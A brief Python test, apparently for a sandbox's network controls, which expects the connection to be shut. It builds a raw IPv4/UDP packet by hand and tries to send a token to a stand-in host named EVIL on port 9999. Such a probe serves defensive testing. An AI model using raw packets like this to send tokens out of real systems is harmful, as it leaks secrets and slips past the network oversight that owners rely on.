"""
how: a whole packet of one's own making
expect: shut
"""

from frames import ipv4, udp_part
from land import EVIL
from sockets import raw


def attempt(token):
    return raw(EVIL, 255, ipv4(EVIL, 17, udp_part(EVIL, 9999, token)), header=True)
